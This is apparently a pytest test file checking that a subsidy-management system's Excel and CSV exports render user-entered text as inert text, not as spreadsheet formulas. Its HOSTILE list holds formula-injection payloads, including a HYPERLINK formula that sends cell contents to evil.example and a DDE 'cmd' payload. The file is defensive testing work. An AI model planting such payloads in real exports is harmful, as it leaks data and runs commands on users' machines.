"""Exports safe to open: text an applicant or anyone else typed that a spreadsheet would take for a
formula (``=HYPERLINK(…)``, ``+``, ``-``, ``@``, a leading tab or CR) is written as text in every Excel
and CSV export, while amounts stay numbers (negative ones too)."""

from __future__ import annotations

import csv
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from money_factories import WAN, add_award, add_call, add_org, add_user, tx, url_of, uscc
from openpyxl import load_workbook
from sqlalchemy import Engine

from subsidy.cli import main
from subsidy.services.commitments import commit_award
from subsidy.services.ledger import append
from subsidy.services.reports import FORMULA_STARTS, safe_cell, write_csv, write_xlsx
from subsidy.store.tables import Application, Award, Call, Finding, OtherSupport

HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"点此查看")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1"]


def _run(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], engine: Engine, *args: str) -> str:
    monkeypatch.setenv("SUBSIDY_DATABASE_URL", url_of(engine))
    with pytest.raises(SystemExit) as exc:
        main(list(args))
    captured = capsys.readouterr()
    assert exc.value.code in (0, None), captured.out + captured.err
    return captured.out


def _hostile_world(engine: Engine) -> None:
    """An award whose project title, call title, finding and other support are hostile."""
    with tx(engine) as s:
        c = add_call(s)
        org = add_org(s, 1, "宝安智慧医院")
        add_user(s, "alice", "applicant", org)
        award = add_award(s, c, org, 100 * WAN, shares=("100%",))
        s.get_one(Application, award.application_id).project_title = HOSTILE[0]
        s.get_one(Call, c.id).title = HOSTILE[3]
        append(s, "appropriation", call_id=c.id, clause_id="art14a", year=c.year, fen=1000 * WAN, memo="预算")
        commit_award(s, s.get_one(Award, award.id), None)
        officer = s.get_one(Application, award.application_id).created_by
        s.add(Finding(award_id=award.id, found_on=c.opens_on, text=HOSTILE[1], severity="serious", found_by=officer))
        s.add(OtherSupport(organisation_id=org.id, programme=HOSTILE[4], level="city", zone=HOSTILE[5], year=2025,
                           fen=10 * WAN, project_ref=HOSTILE[2], one_matter_decision=False, source="entered",
                           recorded_by=officer))


def _cells(path: Path) -> list[Any]:
    wb = load_workbook(path)
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]


def _assert_safe(values: list[Any]) -> None:
    texts = [v for v in values if isinstance(v, str)]
    assert texts
    assert not [t for t in texts if t.startswith(FORMULA_STARTS)], texts


@pytest.mark.db
def test_entity_history_xlsx_writes_a_hostile_title_as_text(engine: Engine, monkeypatch: pytest.MonkeyPatch,
                                                             capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    _hostile_world(engine)
    path = tmp_path / "history.xlsx"
    _run(monkeypatch, capsys, engine, "entity", "history", uscc(1), "--xlsx", str(path), "--as", "alice")
    cells = _cells(path)
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no formula anywhere
    _assert_safe([c.value for c in cells])
    values = {c.value for c in cells}
    for text in HOSTILE:  # each is there, shown as the text it is (XML reads a CR back as LF)
        assert ("'" + text).replace("\r", "\n") in values, text
    amounts = [c.value for c in cells if c.data_type == "n" and isinstance(c.value, int | float) and c.value > 1000]
    assert 1_000_000 in amounts  # the 100万元 award stays a number (元)


@pytest.mark.db
def test_fund_position_xlsx_and_csv_write_a_hostile_call_title_as_text(
        engine: Engine, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    _hostile_world(engine)
    xlsx, csv_path = tmp_path / "position.xlsx", tmp_path / "position.csv"
    _run(monkeypatch, capsys, engine, "fund", "position", "--xlsx", str(xlsx), "--csv", str(csv_path),
         "--as", "finance")
    cells = _cells(xlsx)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert "'" + HOSTILE[3] in {c.value for c in cells}
    assert 10_000_000 in {c.value for c in cells}  # appropriated 1000万元, a number
    with csv_path.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    _assert_safe([v for row in rows for v in row])
    assert rows[1][1] == "'" + HOSTILE[3] and rows[1][4] == "10000000.00"


def test_negative_numbers_stay_numbers_and_strings_are_neutralised(tmp_path: Path) -> None:
    rows: list[list[Any]] = [[-5, Decimal("-12.50"), "-12.50", "=1+1", "正常文本", None, True]]
    sheet = load_workbook(write_xlsx(tmp_path / "t.xlsx", {"表": (("a", "b", "c", "d", "e", "f", "g"), rows)})).active
    assert sheet is not None
    got = [c.value for c in sheet[2]]
    assert got == [-5, -12.5, "'-12.50", "'=1+1", "正常文本", None, True]
    assert [c.data_type for c in sheet[2]][:4] == ["n", "n", "s", "s"]
    with write_csv(tmp_path / "t.csv", ("a", "b", "c", "d"), [rows[0][:4]]).open(encoding="utf-8-sig") as fh:
        assert list(csv.reader(fh))[1] == ["-5", "-12.50", "'-12.50", "'=1+1"]


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=20) | st.integers() | st.decimals(allow_nan=False, allow_infinity=False, places=2))
def test_safe_cell_never_leaves_a_formula_start_and_keeps_everything_else(value: Any) -> None:
    out = safe_cell(value)
    if isinstance(value, str):
        assert not out.startswith(FORMULA_STARTS)
        assert out in (value, "'" + value)
        assert (out != value) == value.startswith(FORMULA_STARTS)
    else:
        assert out is value
